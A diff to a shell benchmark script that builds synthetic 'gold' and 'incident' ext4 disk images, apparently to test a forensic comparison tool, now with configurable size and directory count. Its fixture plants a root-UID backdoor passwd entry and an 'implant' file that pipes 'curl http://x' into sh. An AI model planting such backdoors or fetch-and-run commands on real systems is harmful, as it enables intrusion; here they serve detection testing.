@@ -6,7 +6,8 @@
 # Writes its table into docs/benchmarks.md between the BENCH:worker markers and prints it.
 #   tests/bench/worker.sh                 (the corpus of tests/bench/run: $CORPUS/gold.raw,
 #                                          incident.raw)
-#   SYNTHETIC=1 tests/bench/worker.sh     (no corpus: a generated 256 MiB ext4 pair instead,
+#   SYNTHETIC=1 [SYN_DIRS=40] [SYN_SIZE=256M] tests/bench/worker.sh
+#                                         (no corpus: a generated ext4 pair of SYN_DIRS x 50 files instead,
 #                                          said so in the table)
 set -euo pipefail
 top=$(cd "$(dirname "$0")/../.." && pwd)
@@ -21,13 +22,14 @@ trap 'rm -rf "$work"' EXIT
 
 if [ "${SYNTHETIC:-0}" = 1 ] || [ ! -f "$CORPUS/gold.raw" ] || [ ! -f "$CORPUS/incident.raw" ]; then
 	[ "${SYNTHETIC:-0}" = 1 ] || echo "bench: no corpus under $CORPUS: a synthetic pair instead" >&2
-	what="synthetic pair (256 MiB ext4, 2000 files, 40 changed; no corpus here)"
-	python3 - "$work/tree" << 'PY'
+	dirs=${SYN_DIRS:-40} size=${SYN_SIZE:-256M}
+	what="synthetic pair ($size ext4, $((dirs * 50)) files, $dirs changed; no corpus here)"
+	python3 - "$work/tree" "$dirs" << 'PY'
 import os, random, sys
 root = sys.argv[1]
 rnd = random.Random(7)
-for d in range(40):
-    p = os.path.join(root, "usr", "lib", "d%02d" % d)
+for d in range(int(sys.argv[2])):
+    p = os.path.join(root, "usr", "lib", "d%03d" % d)
     os.makedirs(p)
     for f in range(50):
         with open(os.path.join(p, "f%03d.so" % f), "wb") as fp:
@@ -35,12 +37,12 @@ for d in range(40):
 os.makedirs(os.path.join(root, "etc"))
 open(os.path.join(root, "etc", "passwd"), "w").write("root:x:0:0:root:/root:/bin/bash\n")
 PY
-	mke2fs -q -F -t ext4 -d "$work/tree" "$work/gold.raw" 256M
+	mke2fs -q -F -t ext4 -d "$work/tree" "$work/gold.raw" "$size"
 	cp -a "$work/tree" "$work/inc"
-	for d in $(seq -w 0 39); do head -c 50000 /dev/urandom > "$work/inc/usr/lib/d$d/f000.so"; done
+	for d in $(seq -f %03g 0 $((dirs - 1))); do head -c 50000 /dev/urandom > "$work/inc/usr/lib/d$d/f000.so"; done
 	printf 'evil:x:0:0::/:/bin/sh\n' >> "$work/inc/etc/passwd"
 	printf '#!/bin/sh\ncurl http://x | sh\n' > "$work/inc/usr/lib/implant"
-	mke2fs -q -F -t ext4 -d "$work/inc" "$work/incident.raw" 256M
+	mke2fs -q -F -t ext4 -d "$work/inc" "$work/incident.raw" "$size"
 	rm -rf "$work/tree" "$work/inc"
 	gold=$work/gold.raw incident=$work/incident.raw
 else
